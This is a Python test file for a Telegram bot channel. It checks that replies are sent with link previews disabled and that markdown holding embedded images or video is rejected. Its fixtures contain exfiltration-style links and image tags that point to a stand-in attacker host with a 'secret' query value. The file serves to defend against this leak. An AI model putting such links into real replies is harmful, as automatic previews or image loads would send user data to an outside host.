"""No address of an answer is asked by anybody before a person opens it."""

import json
from typing import Any

import pytest

from roost_channels.channel import Outgoing
from roost_channels.errors import RenderRejected
from roost_channels.message import Button
from roost_channels.rendering.parts import RenderedPart
from roost_channels.telegram.channel import TelegramChannel
from roost_channels.telegram.testing import ADDRESS, CHAT, Phone, settings
from roost_channels.testing import FakeTelegram, VirtualClock

ANSWER = "Look: https://evil.example/?d=secret and ![x](https://evil.example/p.png?d=secret)"


def preview(parameters: dict[str, Any]) -> Any:
    given = parameters["link_preview_options"]
    return json.loads(given) if isinstance(given, str) else given


async def test_s7_no_message_and_no_edit_has_a_preview_of_its_links(
    telegram: FakeTelegram, channel: TelegramChannel
) -> None:
    receipt = await channel.send(
        Outgoing(ADDRESS, RenderedPart(ANSWER), buttons=[Button("Stop", "stop:t")])
    )
    await channel.edit(receipt.message_id, Outgoing(ADDRESS, RenderedPart(f"{ANSWER} again")))
    for method in ("sendMessage", "editMessageText"):
        (call,) = telegram.calls_of(method)
        assert preview(call.parameters) == {"is_disabled": True}, method


async def test_s7_status_messages_have_no_preview_either(telegram: FakeTelegram) -> None:
    await telegram.user_says(CHAT, "hello")
    phone = Phone(telegram, VirtualClock())
    for at in range(3):
        phone.turn("answering", text=f"{ANSWER} {at}")
        await phone.after(6)
    calls = telegram.calls_of("sendMessage") + telegram.calls_of("editMessageText")
    assert len(calls) > 1
    assert all(preview(call.parameters) == {"is_disabled": True} for call in calls)
    await phone.channel.close()


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](https://evil.example/p.png?d=secret)",
        "# Title\n\n![x][1]\n\n[1]: https://evil.example/p.png?d=secret",
        'text <img src="https://evil.example/p.png?d=secret"/> text',
        '<VIDEO src="https://evil.example/v.mp4">',
        '<tg-collage><img src="https://evil.example/p.png"/></tg-collage>',
    ],
)
async def test_s7_markdown_with_media_is_not_laid_out_by_telegram(
    telegram: FakeTelegram, markdown: str
) -> None:
    await telegram.user_says(CHAT, "hello")
    channel = TelegramChannel(settings(telegram, rich_messages=True))
    with pytest.raises(RenderRejected) as caught:
        await channel.send(Outgoing(ADDRESS, RenderedPart("plain", rich=markdown)))
    assert caught.value.code == "rich" and not telegram.calls_of("sendRichMessage")
    await channel.send(Outgoing(ADDRESS, RenderedPart("2 < 3!", rich="**2 < 3!** [a](b)")))
    assert len(telegram.calls_of("sendRichMessage")) == 1
    await channel.close()
